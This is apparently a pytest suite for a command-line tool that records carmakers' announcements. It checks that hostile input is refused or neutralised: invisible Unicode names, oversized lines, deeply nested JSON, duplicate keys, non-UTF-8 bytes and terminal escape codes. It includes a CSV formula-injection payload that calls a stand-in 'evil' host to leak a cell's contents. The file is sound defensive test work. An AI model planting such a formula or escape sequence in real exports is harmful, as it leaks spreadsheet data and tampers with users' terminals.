"""Issue 21 (part D): input that was accepted and then broke later reads, invisible names,
unbounded input, a closed or full stdout, CSV cells a spreadsheet would run, and ambiguous
input. Each test reproduces one attack of the issue."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from conftest import make_announcement

from mxt.cli.main import cli
from mxt.projections.opening import open_store

from backends import count_events, store_location


def mxt(*args: str, input: str | bytes | None = None) -> Result:
    return CliRunner().invoke(cli, list(args), input=input)


def refused(result: Result, field: str) -> None:
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("mxt: error: ") and f"{field}:" in result.stderr
    assert len(result.stderr.strip()) <= 200 + len("mxt: error: ")


def answered(result: Result) -> None:
    """A read that answered (exit 0), with no internal error."""
    assert "internal error" not in result.output, result.output
    assert result.exit_code == 0, result.output


def store_raw(location: str, *contents: dict[str, Any]) -> None:
    """Announcements stored as they are, past today's schemas, through mxt's own write path:
    what a store written before a rule holds."""
    from mxt.domain.model import aggregate_id, recorded_event

    with open_store(location, "create") as store, store.write() as transaction:
        for content in contents:
            event, state = recorded_event(
                aggregate_id(content["id"]), content, transaction.recorded_at_json
            )
            transaction.append_stored([event], [state])


def streak(ending: str, months: int, exact: bool = False) -> dict[str, Any]:
    return {"claim": {"type": "streak", "metric": "deliveries", "at_least": 1, "months": months,
                      "ending": ending, "exact": exact}}  # fmt: skip


# -- 10. periods and claims inside years 0001-9999 -------------------------------------------

OUTSIDE_THE_CALENDAR = [
    (make_announcement("target", period="0000"), "period"),
    (make_announcement("target", period="0000-H1"), "period"),
    (make_announcement("deliveries", period="0000-12"), "period"),
    (make_announcement("expected-entry", expected="0000"), "expected"),
    (make_announcement("claim", **streak("0000-12", 1)), "claim.ending"),
    (make_announcement("claim", **streak("0001-03", 4)), "claim"),
    (make_announcement("claim", **streak("0001-03", 3, exact=True)), "claim"),
    (make_announcement("claim", claim={"type": "total", "metric": "sales", "period": "0000",
                                       "op": ">=", "value": 1}), "claim.period"),
]  # fmt: skip


@pytest.mark.parametrize(("line", "field"), OUTSIDE_THE_CALENDAR)
def test_periods_and_claims_outside_years_1_to_9999_are_refused(
    line: dict[str, Any], field: str, store_path: Path
) -> None:
    refused(mxt("--store", str(store_path), "import", "-", input=json.dumps(line)), field)
    assert count_events(store_path) == 0


def test_the_calendar_s_first_and_last_periods_are_accepted_and_answered(
    store_path: Path, tmp_path: Path
) -> None:
    lines = [
        make_announcement("target", period="9999", value=10),
        make_announcement("target", period="0001-01", value=10, metric="sales"),
        make_announcement("deliveries", period="0001-01", units=0),
        make_announcement("deliveries", period="9999-12", units=5),
        make_announcement("claim", **streak("0001-04", 3)),
        make_announcement("claim", **streak("0001-03", 2, exact=True)),
        make_announcement("expected-entry", expected="9999-12-31"),
    ]
    text = "\n".join(json.dumps(line) for line in lines)
    assert mxt("--store", str(store_path), "import", "-", input=text).exit_code == 0
    store = ["--store", str(store_path)]
    for as_of in ("9999-12-31", "0001-01-01", "2025-07-10"):
        answered(mxt(*store, "diff", "--from", "0001-01-01", "--to", as_of))
        for command in (["progress"], ["state", "company", "Xiaomi"], ["check"],
                        ["audit", "targets"], ["report", "-o", str(tmp_path / f"r-{as_of}.html")],
                        ["conflicts"], ["state", "market", "EU"], ["log"]):  # fmt: skip
            answered(mxt(*store, *command, "--as-of", as_of))
    progress = json.loads(mxt(*store, "progress", "--as-of", "9999-12-31", "--json").stdout)
    assert {row["period"] for row in progress} == {"9999", "0001-01"}


STORED_BEFORE_THE_RULE = [
    {**make_announcement("target", period="0000"), "id": "old-target"},
    {**make_announcement("deliveries", period="0000-03"), "id": "old-figure"},
    {**make_announcement("claim", **streak("0001-03", 8, exact=True)), "id": "old-streak"},
    {**make_announcement("claim", claim={"type": "total", "metric": "sales", "period": "0000",
                                         "op": ">=", "value": 1}), "id": "old-total"},
    {**make_announcement("target", period="2025"), "id": "good-target"},
]  # fmt: skip


def test_periods_stored_before_the_rule_break_no_read(store_location: str, tmp_path: Path) -> None:
    store_raw(store_location, *STORED_BEFORE_THE_RULE)
    store = ["--store", store_location]
    early = "2000-01-01"  # before anything was recorded: the empty answer
    for known_at in ([], ["--known-at", early]):
        for command in (["progress"], ["state", "company", "Xiaomi"], ["check"],
                        ["diff", "--from", "2025-01-01", "--to", "2025-07-10"],
                        ["show", "old-streak"], ["show", "old-target"], ["show", "old-figure"],
                        ["report", "-o", str(tmp_path / "r.html")]):  # fmt: skip
            if known_at and command[0] == "show":
                continue  # nothing is known then: the id is unknown, exit 2
            answered(mxt(*store, *command, *known_at))
    checked = json.loads(mxt(*store, "check", "--json").stdout)
    verdicts = {row["id"]: (row["verdict"], row["why"]) for row in checked}
    assert verdicts["old-streak"][0] == "undetermined"
    assert "before 0001-01" in verdicts["old-streak"][1]
    assert verdicts["old-total"][0] == "undetermined"
    progress = json.loads(mxt(*store, "progress", "--json").stdout)
    assert [row["target_id"] for row in progress] == ["good-target"]  # 0000 counts toward none


# -- 11. names: nothing that renders as nothing ----------------------------------------------

INVISIBLE_NAMES = ["Xiaomi\u3164", "Xiao\u034fmi", "Xiaomi\ufe0f", "Xiaomi\u2800", "Xiao\u17b4mi",
                   "\u115fXiaomi", "Xiaomi\uffa0", "Xiaomi\U000e0041", "Xiaomi\u00ad",
                   "Xiao\u1680mi"]  # fmt: skip


@pytest.mark.parametrize("name", INVISIBLE_NAMES)
@pytest.mark.parametrize("field", ["company", "model"])
def test_names_that_render_as_something_invisible_are_refused(
    name: str, field: str, store_path: Path
) -> None:
    line = json.dumps(make_announcement("launch", **{field: name}), ensure_ascii=False)
    refused(mxt("--store", str(store_path), "import", "-", input=line.encode()), field)
    args = ["launch", "--company", "Xiaomi", "--announced-on", "2025-07-01", "--source", "s",
            "--model", "SU7", "--market", "CN"]  # fmt: skip
    args[args.index(f"--{field}") + 1] = name
    refused(mxt("--store", str(store_path), "record", *args), field)
    assert count_events(store_path) == 0


def test_the_invisible_table_is_unicode_s_default_ignorable_property() -> None:
    """The ranges mxt keeps are those of Unicode's data as the `regex` library has it."""
    from mxt.events.invisible import DEFAULT_IGNORABLE, derived

    assert derived() == DEFAULT_IGNORABLE


def test_invisible_names_stored_before_the_rule_are_read_and_shown_escaped(
    store_location: str,
) -> None:
    filler = {**make_announcement("statement", company="Xiaomi\u3164"), "id": "filler"}
    store_raw(store_location, {**make_announcement("statement"), "id": "plain"}, filler)
    store = ["--store", store_location]
    state = mxt(*store, "state", "company", "Xiaomi\u3164")
    answered(state)
    assert "Xiaomi\\u3164" in state.stdout and "\u3164" not in state.stdout
    log = mxt(*store, "log")
    answered(log)
    assert "Xiaomi\\u3164" in log.stdout and "\u3164" not in log.stdout
    assert "Xiaomi\u3164" in mxt(*store, "log", "--json").stdout  # machine output keeps it
    exported = mxt(*store, "export")
    answered(exported)
    # Such a line no longer imports: the reader is told which field to fix.
    refused(mxt(*store, "import", "--dry-run", "-", input=exported.stdout.encode()), "company")


# -- 16. separators and the Arabic letter mark in tables -------------------------------------


def test_separators_and_the_arabic_letter_mark_are_shown_escaped(store_location: str) -> None:
    text = "one\u2028two\u2029three\u061cfour"
    store_raw(store_location, {**make_announcement("statement", text=text), "id": "seps"})
    for command in (["show", "seps"], ["log", "--kind", "statement"]):
        shown = mxt("--store", store_location, *command)
        answered(shown)
        for raw in ("\u2028", "\u2029", "\u061c"):
            assert raw not in shown.stdout
    assert (
        "one\\u2028two\\u2029three\\u061cfour"
        in mxt("--store", store_location, "show", "seps").stdout
    )


def test_a_long_expected_head_is_bad_input_and_no_message_is_unbounded(store_path: Path) -> None:
    line = json.dumps(make_announcement("statement"))
    assert mxt("--store", str(store_path), "import", "-", input=line).exit_code == 0
    refused(mxt("--store", str(store_path), "verify", "--expect", "a" * 5000), "expect")
    missing = mxt("--store", str(store_path), "verify", "--expect", "a" * 64)
    assert missing.exit_code == 1
    assert "is not in this log" in missing.stderr
    assert all(len(line) <= 200 for line in missing.stderr.splitlines())


# -- 12, 15 and 14 (stdout on a full disk): output that cannot be written --------------------


def installed_mxt(args: list[str], stdout: str, stdin: str | None = None) -> Any:
    """The installed `mxt` with its stdout closed (`closed`) or on a full disk (`full`)."""
    import os
    import shlex
    import shutil
    import subprocess

    executable = shutil.which("mxt")
    assert executable is not None
    redirect = ">&-" if stdout == "closed" else ">/dev/full"
    command = f"{shlex.join([executable, *args])} {redirect}"
    environment = {k: v for k, v in os.environ.items() if k not in ("MXT_STORE", "MXT_DEBUG")}
    return subprocess.run(["bash", "-c", command], input=stdin, capture_output=True, text=True,
                          env=environment, timeout=120)  # fmt: skip


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize("stdout", ["closed", "full"])
def test_a_write_whose_output_fails_says_it_committed(stdout: str, store_path: Path) -> None:
    store = ["--store", str(store_path)]
    lines = "".join(json.dumps(make_announcement(kind)) + "\n" for kind in ("target", "launch"))
    imported = installed_mxt([*store, "import", "-"], stdout, stdin=lines)
    assert "Traceback" not in imported.stderr and "internal error" not in imported.stderr
    assert imported.returncode == 1
    [message] = imported.stderr.splitlines()
    assert message.startswith("mxt: error: stdout: ")
    assert "committed: recorded 2, already present 0" in message
    assert count_events(store_path) == 2
    recorded = installed_mxt([*store, "record", "statement", "--company", "X", "--announced-on",
                              "2025-01-01", "--source", "s", "--topic", "t", "--text", "hi"],
                             stdout)  # fmt: skip
    assert recorded.returncode == 1 and "Traceback" not in recorded.stderr
    assert "committed: recorded a-" in recorded.stderr
    assert count_events(store_path) == 3


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize("stdout", ["closed", "full"])
@pytest.mark.parametrize("command", [["log"], ["log", "--format", "csv"], ["export"],
                                     ["state", "company", "Xiaomi", "--json"], ["check"],
                                     ["schema"], ["--help"]])  # fmt: skip
def test_a_read_whose_output_fails_says_so_in_one_line(
    stdout: str, command: list[str], store_path: Path
) -> None:
    line = json.dumps(make_announcement("target"))
    assert mxt("--store", str(store_path), "import", "-", input=line).exit_code == 0
    result = installed_mxt(["--store", str(store_path), *command], stdout)
    assert result.returncode == 1, result.stderr
    [message] = result.stderr.splitlines()
    assert message.startswith("mxt: error: stdout: ") and "committed" not in message


# -- 14. a cause named where there was an "internal error" -----------------------------------


def test_a_claims_file_nested_100k_deep_is_bad_input(store_path: Path, tmp_path: Path) -> None:
    line = json.dumps(make_announcement("statement"))
    assert mxt("--store", str(store_path), "import", "-", input=line).exit_code == 0
    deep = tmp_path / "deep.jsonl"
    deep.write_text('{"company": "X", "claim": ' + "[" * 100_000 + "]" * 100_000 + "}\n")
    result = mxt("--store", str(store_path), "check", str(deep))
    refused_line = result.stderr
    assert result.exit_code == 2 and "internal error" not in refused_line
    assert "nested too deeply" in refused_line and "line 1" in refused_line
    nested = "[" * 100_000 + "]" * 100_000
    result = mxt("--store", str(store_path), "import", "-", input=nested)
    assert result.exit_code == 2 and "malformed JSON" in result.stderr
    claim = ["record", "claim", "--company", "X", "--announced-on", "2025-01-01", "--source",
             "s", "--claim", nested]  # fmt: skip
    result = mxt("--store", str(store_path), *claim)
    assert result.exit_code == 2 and "nested too deeply" in result.stderr


@pytest.mark.parametrize("months", ["9" * 400, "9" * 5000, "9" * 400 + ".5"])
def test_a_400_digit_max_months_is_bad_input(months: str, store_path: Path) -> None:
    args = ["wait-time", "--company", "X", "--announced-on", "2025-01-01", "--source", "s",
            "--model", "Y", "--max-months", months]  # fmt: skip
    refused(mxt("--store", str(store_path), "record", *args), "max_months")
    line = json.dumps(make_announcement("wait-time")).replace(
        '"max_months": 12', f'"max_months": {months}'
    )
    result = mxt("--store", str(store_path), "import", "-", input=line)
    assert result.exit_code == 2 and "internal error" not in result.stderr
    assert "max_months:" in result.stderr or "number out of range" in result.stderr
    assert count_events(store_path) == 0


def test_a_stored_text_that_is_not_utf_8_is_named_as_damage(store_path: Path) -> None:
    import sqlite3

    line = json.dumps(make_announcement("statement"))
    assert mxt("--store", str(store_path), "import", "-", input=line).exit_code == 0
    with sqlite3.connect(store_path) as db:
        for table in ("mxt_rm_versions", "mxt_rm_firsts"):  # (names are read from the latter)
            db.execute(f"UPDATE {table} SET company = CAST(CAST(company AS BLOB) || X'FF' AS TEXT)")
    result = mxt("--store", str(store_path), "state", "company", "Xiaomi")
    assert result.exit_code == 1
    assert "a stored text is not UTF-8: the store is damaged" in result.stderr


def test_a_postgresql_database_in_sql_ascii_is_read_as_utf_8_and_bad_bytes_named() -> None:
    """A SQL_ASCII database hands text back as bytes unless UTF-8 is asked for: every read
    failed with an internal error, and a stored byte that is not UTF-8 could not be named."""
    import uuid

    from backends import NO_SERVER, SERVER

    if not SERVER:
        pytest.skip(NO_SERVER)
    import psycopg

    name = f"mxt_ascii_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(SERVER, autocommit=True) as admin:
        admin.execute(f"CREATE DATABASE \"{name}\" ENCODING 'SQL_ASCII' TEMPLATE template0 "
                      "LC_COLLATE 'C' LC_CTYPE 'C'")  # fmt: skip
    location = SERVER.rsplit("/", 1)[0] + "/" + name
    try:
        line = json.dumps(make_announcement("statement", text="naïve – ok"), ensure_ascii=False)
        assert mxt("--store", location, "import", "-", input=line.encode()).exit_code == 0
        shown = mxt("--store", location, "log", "--json")
        answered(shown)
        assert json.loads(shown.stdout)[0]["text"] == "naïve – ok"
        answered(mxt("--store", location, "verify"))
        with psycopg.connect(location, autocommit=True) as db:
            for table, column in (("mxt_rm_versions", "company"), ("mxt_rm_firsts", "company"),
                                  ("mxt_events", "topic")):  # fmt: skip
                db.execute(f"UPDATE {table} SET {column} = {column} || "
                           "convert_from('\\xff'::bytea, 'SQL_ASCII')")  # fmt: skip
        for command in (["log"], ["state", "company", "Xiaomi"]):
            result = mxt("--store", location, *command)
            assert result.exit_code == 1, result.output
            assert "a stored text is not UTF-8: the store is damaged" in result.stderr
    finally:
        with psycopg.connect(SERVER, autocommit=True) as admin:
            admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


# -- ambiguous input: a key given twice ------------------------------------------------------


def test_a_key_given_twice_is_refused_naming_the_key_and_line(
    store_path: Path, tmp_path: Path
) -> None:
    good = json.dumps(make_announcement("statement"))
    twice = good.replace('"company": "Xiaomi"', '"company": "Xiaomi", "company": "BYD"')
    result = mxt("--store", str(store_path), "import", "-", input=f"{good}\n{twice}\n")
    refused(result, "company")
    assert "line 2" in result.stderr and "twice" in result.stderr
    nested = good.replace('"source": {', '"source": {"title": "first", ')
    refused(mxt("--store", str(store_path), "import", "-", input=nested), "title")
    assert count_events(store_path) == 0
    claims = tmp_path / "claims.jsonl"
    claims.write_text('{"company": "X", "claim": {"type": "total", "type": "streak"}}\n')
    result = mxt("--store", str(store_path), "check", str(claims))
    assert result.exit_code == 2 and "type: given twice" in result.stderr
    assert f"{claims} line 1" in result.stderr
    record = ["record", "claim", "--company", "X", "--announced-on", "2025-01-01", "--source",
              "s", "--claim", '{"type": "total", "type": "streak"}']  # fmt: skip
    result = mxt("--store", str(store_path), *record)
    assert result.exit_code == 2 and "type: given twice" in result.stderr


# -- CSV formula injection -------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil?x="&A1,"Xiaomi")'


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(store_path: Path) -> None:
    import csv
    import io

    store = ["--store", str(store_path)]
    lines = [
        make_announcement(
            "statement",
            company=FORMULA,
            text="+1 for Europe",
            note="-2 units",
            source={"title": "@SUM(1)"},
        ),  # fmt: skip
        make_announcement("target", company=FORMULA, value=350000),
    ]
    text = "\n".join(json.dumps(line) for line in lines)
    assert mxt(*store, "import", "-", input=text).exit_code == 0
    [row] = csv.DictReader(io.StringIO(mxt(*store, "log", "--kind", "statement",
                                           "--format", "csv").stdout))  # fmt: skip
    assert row["company"] == "'" + FORMULA
    assert (row["text"], row["note"], row["source.title"]) == ("'+1 for Europe", "'-2 units",
                                                               "'@SUM(1)")  # fmt: skip
    assert row["topic"] == "hiring" and row["announced_on"] == "2025-07-01"
    targets = mxt(*store, "state", "company", FORMULA, "--section", "targets", "--format", "csv")
    [target] = csv.DictReader(io.StringIO(targets.stdout))
    assert target["value"] == "350000"  # numbers are never changed
    raw = mxt(*store, "log", "--kind", "statement", "--format", "csv", "--csv-raw").stdout
    [row] = csv.DictReader(io.StringIO(raw))
    assert (row["company"], row["text"]) == (FORMULA, "+1 for Europe")
    [entry] = json.loads(mxt(*store, "log", "--kind", "statement", "--json").stdout)
    assert entry["company"] == FORMULA  # JSON keeps the data as stored
    refused(mxt(*store, "log", "--csv-raw"), "csv-raw")


# -- 13. bounded input -----------------------------------------------------------------------

ZEROS = b"\x00" * (2 << 20)  # /dev/zero's first 2 MiB: one line that never ends


def test_import_and_check_read_a_line_of_at_most_1_mib(store_path: Path, tmp_path: Path) -> None:
    assert mxt("--store", str(store_path), "import", "-", input=b"").exit_code == 0
    for command in (["import", "-"], ["import", "--dry-run", "-"], ["check", "-"]):
        result = mxt("--store", str(store_path), *command, input=ZEROS)
        assert result.exit_code == 2, result.output
        assert "line 1: longer than 1,048,576 bytes (1 MiB)" in result.stderr
    zeros = tmp_path / "zeros"
    zeros.write_bytes(ZEROS)
    result = mxt("--store", str(store_path), "check", str(zeros))
    assert result.exit_code == 2 and f"{zeros} line 1: longer than 1,048,576" in result.stderr


def test_extract_reads_at_most_1_mib(tmp_path: Path) -> None:
    result = mxt("extract", "-", "--published", "2025-07-04", input=ZEROS)
    assert result.exit_code == 2
    assert "file: -: longer than 1,048,576 bytes (1 MiB)" in result.stderr


def test_extract_takes_time_in_proportion_to_the_text(tmp_path: Path) -> None:
    """100 KB in one paragraph, a new chief executive in every sentence: pysbd read the
    paragraph whole (its time grows with the square of what it reads), and each sentence
    was searched for every person met so far (64 s before; about 2 s now)."""
    import time

    sentences, number = [], 0
    while sum(map(len, sentences)) < 100_000:
        first, last = (f"{chr(65 + (number + k) % 26)}{chr(97 + number // 26 % 26)}x"
                       for k in (0, 7))  # fmt: skip
        sentences.append(f"CEO {first}an {last}on said Xiaomi sold {1000 + number} cars in June. ")
        number += 1
    started = time.perf_counter()
    result = mxt("extract", "-", "--published", "2025-07-04", input="".join(sentences))
    assert result.exit_code == 0, result.output
    assert time.perf_counter() - started < 30
    assert len(result.stdout.splitlines()) > 100


# -- ambiguous input: extract writes only drafts that import accepts -------------------------

NASTY = (
    "X" * 150 + " " + "\ufb01" * 48 + "\u339e" * 3 + " Xiaomi\u3164 news\n"  # NFKC: 249
    "Xiaomi said it delivered \x1b[31m28,000 cars in June, CEO Lei\x1fJun said.\n"
    "Xiaomi sold 99999999999999999999 cars in June.\n"
    "Xiaomi said the wait time for the YU7 is 99999999999999999999 months.\n"
    "BYD sold 382,585 new energy vehicles in June\x07, the company said on Tuesday.\n"
    "Xiaomi plans to sell 350,000 cars in the year 0000 and 10,000 in 9999.\n"
    "The factory in Yizhuang\u200b will open in 2027\x85Xiaomi said.\n"
    + "Xiaomi said sales rose in every market it serves, " * 400
    + "\n"  # a 20,000-character sentence
)


def test_extract_writes_only_drafts_that_import_accepts(store_path: Path, tmp_path: Path) -> None:
    article = tmp_path / "nasty.txt"
    article.write_text(NASTY)
    drafted = mxt("extract", str(article), "--published", "2025-07-04")
    assert drafted.exit_code == 0, drafted.output
    lines = drafted.stdout.splitlines()
    assert len(lines) >= 5
    checked = mxt("--store", str(store_path), "import", "--dry-run", "-", input=drafted.stdout)
    assert checked.exit_code == 0, checked.stderr
    assert f"would record {len(lines)}," in checked.stdout
    # a figure beyond 2^53 (and beyond what any maker builds) is no count: a statement
    huge = [json.loads(line) for line in lines if "99999999999999999999 cars" in line]
    assert huge and [draft["kind"] for draft in huge] == ["statement"] * len(huge)


@pytest.mark.parametrize(("option", "value", "field"), [
    ("--company", "Xiaomi\u3164", "company"), ("--source", "T\x1b[2J", "source"),
    ("--source", "x" * 201, "source"), ("--url", "not a url", "url"),
])  # fmt: skip
def test_extract_refuses_options_that_import_would_refuse(
    option: str, value: str, field: str, tmp_path: Path
) -> None:
    article = tmp_path / "a.txt"
    article.write_text("BYD sold 382,585 new energy vehicles in June, the company said.\n")
    refused(mxt("extract", str(article), "--published", "2025-07-04", option, value), field)


def test_the_report_as_of_the_calendar_s_last_day(store_path: Path, tmp_path: Path) -> None:
    from mxt.cli.demo import seed_path

    assert mxt("--store", str(store_path), "import", str(seed_path())).exit_code == 0
    page = tmp_path / "last.html"
    answered(mxt("--store", str(store_path), "report", "--as-of", "9999-12-31", "-o", str(page)))
    assert page.stat().st_size > 0
